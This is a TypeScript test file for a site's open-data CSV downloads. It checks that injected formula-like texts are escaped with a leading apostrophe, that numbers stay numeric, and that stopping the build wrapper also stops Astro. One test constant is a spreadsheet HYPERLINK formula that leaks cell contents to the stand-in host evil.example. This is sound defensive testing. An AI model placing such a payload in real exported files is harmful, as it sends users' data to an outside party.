// The open-data downloads as a visitor's spreadsheet reads them, built from a
// snapshot whose texts came from a hostile import file: no cell may start
// like a formula (CSV injection), and numbers — negative ones too — stay
// numbers. Also: stopping the build wrapper stops Astro with it.
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { startsLikeFormula, type Snapshot } from '@sdd/shared-types';

const siteRoot = resolve(import.meta.dirname, '..', '..');
const BUILD = join(siteRoot, 'scripts', 'build.ts');
const work = mkdtempSync(join(tmpdir(), 'sdd-downloads-'));
const outDir = join(work, 'site');
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Quelle")';

/** RFC 4180 rows (quotes, doubled quotes, CRLF), as a spreadsheet reads the file. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    } else cell += c;
  }
  return rows;
}

let kpiCode = '';

beforeAll(() => {
  const snapshot = JSON.parse(readFileSync(inject('snapshotFile'), 'utf8')) as Snapshot;
  const kpi = snapshot.kpis[0]!;
  kpiCode = kpi.code;
  kpi.sourceName = '@Quelle SUM(1+1)';
  kpi.observations[0]!.note = HYPERLINK;
  kpi.observations[1]!.note = '+49 6021 330-0';
  kpi.observations[2]!.note = '\t=1+1';
  kpi.observations[3]!.value = -12.5;
  const snapshotFile = join(work, 'snapshot.json');
  writeFileSync(snapshotFile, JSON.stringify(snapshot));
  const build = spawnSync(process.execPath, [BUILD], { cwd: siteRoot, env: { ...process.env, SNAPSHOT_FILE: snapshotFile, SITE_OUT_DIR: outDir }, encoding: 'utf8' });
  if (build.status !== 0) throw new Error(`site build failed:\n${build.stdout}\n${build.stderr}`);
}, 300_000);

afterAll(() => rmSync(work, { recursive: true, force: true }));

describe('CSV downloads from hostile texts', () => {
  const downloads = () => ['daten/kennzahlen.csv', ...readdirSync(join(outDir, 'kennzahlen')).filter((f) => f.endsWith('.csv')).map((f) => `kennzahlen/${f}`)];

  it('no cell of any CSV download starts like a formula', () => {
    const files = downloads();
    expect(files.length).toBeGreaterThan(5);
    for (const file of files) {
      const rows = parseCsv(readFileSync(join(outDir, file), 'utf8').replace(/^\uFEFF/, ''));
      for (const [r, row] of rows.entries()) for (const [c, cell] of row.entries()) expect(startsLikeFormula(cell), `${file} row ${r + 1} column ${c + 1}: ${JSON.stringify(cell)}`).toBe(false);
    }
  });

  it('keeps the texts readable (with a leading apostrophe) and numbers as numbers', () => {
    const rows = parseCsv(readFileSync(join(outDir, 'kennzahlen', `${kpiCode.toLowerCase()}.csv`), 'utf8').replace(/^\uFEFF/, ''));
    const [header, ...data] = rows;
    const col = (name: string) => header!.indexOf(name);
    expect(data[0]![col('anmerkung')]).toBe(`'${HYPERLINK}`);
    expect(data[1]![col('anmerkung')]).toBe("'+49 6021 330-0");
    expect(data[2]![col('anmerkung')]).toBe("'\t=1+1");
    expect(data[0]![col('quelle')]).toBe("'@Quelle SUM(1+1)");
    expect(data[3]![col('wert')]).toBe('-12.5');
    const all = parseCsv(readFileSync(join(outDir, 'daten', 'kennzahlen.csv'), 'utf8').replace(/^\uFEFF/, ''));
    expect(all.some((row) => row[col('anmerkung')] === `'${HYPERLINK}`)).toBe(true);
    expect(all.some((row) => row[col('kennzahl_code')] === kpiCode && row[col('wert')] === '-12.5')).toBe(true);
  });
});

describe('the build wrapper', () => {
  /** Child processes of `pid`, from /proc. */
  const childrenOf = (pid: number) =>
    readdirSync('/proc')
      .filter((d) => /^\d+$/.test(d))
      .filter((d) => {
        try {
          return readFileSync(`/proc/${d}/stat`, 'utf8').replace(/^.*\) /, '').split(' ')[1] === String(pid);
        } catch {
          return false;
        }
      })
      .map(Number);

  it('stopped with SIGTERM, it has stopped Astro by the time it exits', async () => {
    const wrapper = spawn(process.execPath, [BUILD], { cwd: siteRoot, env: { ...process.env, SNAPSHOT_FILE: inject('snapshotFile'), SITE_OUT_DIR: join(work, 'killed') }, stdio: 'ignore' });
    const exited = new Promise((r) => wrapper.once('exit', r));
    let astro: number | undefined;
    try {
      while (astro === undefined) {
        astro = childrenOf(wrapper.pid!).find((pid) => existsSync(`/proc/${pid}/cmdline`) && readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('astro'));
        if (astro === undefined) await new Promise((r) => setTimeout(r, 20));
      }
      wrapper.kill('SIGTERM');
      await exited;
      expect(existsSync(`/proc/${astro}`)).toBe(false);
    } finally {
      if (astro !== undefined && existsSync(`/proc/${astro}`)) process.kill(astro, 'SIGKILL');
    }
  });
});
